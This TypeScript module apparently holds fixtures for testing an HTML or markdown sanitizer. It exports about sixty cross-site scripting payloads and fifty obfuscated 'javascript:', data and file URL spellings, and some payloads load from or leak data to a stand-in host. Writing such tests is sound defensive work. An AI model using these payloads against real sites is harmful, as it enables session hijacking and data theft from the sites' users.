// Each tries to run something, to load something or to leave. `§` is the number it is known by.
const run = "window.__pwned=§";
const canary = "//canary.test/§";

const tags = [
  `<script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea></select></option><script>${run}</script>`,
  `<ScRiPt/x>${run}</sCrIpT >`,
  `<<script>${run}//<</script>`,
  `<script src=${canary}></script>`,
  `<iframe srcdoc="<script>parent.__pwned=§</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(§)</script>"></object>`,
  `<embed src="javascript:alert(§)">`,
  `<base href="${canary}/">`,
  `<meta http-equiv=refresh content="0;url=${canary}">`,
  `<link rel=stylesheet href=${canary}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];
const attributes = [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' autofocus onfocus='${run}' x='`,
  `\` onmouseover=${run} \``,
  `" style="background:url(${canary})" x="`,
  `x" formaction="javascript:${run}" type="submit`,
];
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror=${run}//`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<form><button autofocus onfocus=${run}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}"></b>`,
];
const foreign = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];
const templates = [
  `{{ "<img src=x onerror=${run}>" }}`,
  `{{ person.name }}<script>${run}</script>`,
  `{% raw %}<script>${run}</script>{% endraw %}`,
  `{{ constructor.constructor("${run}")() }}`,
  `\${${run}} <%= ${run} %> #{${run}}`,
];
const markdown = [
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `<javascript:${run}>`,
  `[r]\n\n[r]: javascript:${run}`,
  `[<img src=x onerror=${run}>](/x "" onmouseover=${run}")`,
  `| a |\n| --- |\n| <img src=x onerror=${run}> |\n\n\`\`\`"><script>${run}</script>\nx\n\`\`\``,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
];
const scripts = [
  `"}</script><script>${run}</script>`,
  `\\"},"x":"</script><script>${run}</script>`,
  `<!--<script>${run}</script>-->`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e\u2028${run}`,
];
const addresses = [`javascript:${run}`, `data:text/html,<script>${run}</script>`];
const characters = [
  `\ufdd00\ufdd1\ufdd2\ufdd3"><script>${run}</script>`,
  `\ud800<script>${run}</script>\udc00`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e +ADw-script+AD4-${run}+ADw-/script+AD4-`,
];
const styles = [
  `</style><style>*{background:url(${canary})}</style>`,
  `<p style="position:fixed;inset:0;background:url(${canary})">`,
];
const dangling = [`<img src='${canary}?`, `"><a href="${canary}?x=`];

/** Sixty ways to make a page do what its owner did not say. */
export const payloads: readonly string[] = [
  ...[tags, attributes, handlers, foreign, templates, markdown, scripts, addresses, characters, styles, dangling].flat(),
].map((text, index) => text.replaceAll("§", String(index + 1)));

/** Fifty ways to spell an address that nobody should be sent to, or one that looks like it. */
export const forbiddenAddresses: readonly string[] = [
  ...["javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript:javascript:alert(1)"],
  ...[" javascript:alert(1)", "\tjavascript:alert(1)", "\njavascript:alert(1)", "\u0001javascript:alert(1)"],
  ...["java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)", "javascript :alert(1)"],
  ...["\u0000javascript:alert(1)", "java\u0000script:alert(1)", "\u001fjavascript:alert(1)", "\u007fjavascript:alert(1)"],
  ...["\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript\u200b:alert(1)"],
  ...["javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)"],
  ...["java&Tab;script:alert(1)", "&#x6A&#x61&#x76&#x61script&#x3A;alert(1)", "javascript%3Aalert(1)", "%6aavascript:alert(1)"],
  ...["java%0ascript:alert(1)", "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "j\u0430vascript:alert(1)"],
  ...['java{{ "" }}script:alert(1)', '{{ "javascript:alert(1)" }}', "javascript:alert(1)//?x={{ person.name }}"],
  ...["\ufdd0javascript:alert(1)", "\\javascript:alert(1)", "javascript://%0aalert(1)//http://x"],
  ...[
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
  ],
  ...["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,%3Csvg/%3E"],
  ...["file:///etc/passwd", "blob:http://pages.foyer.test/x", "about:blank"],
];
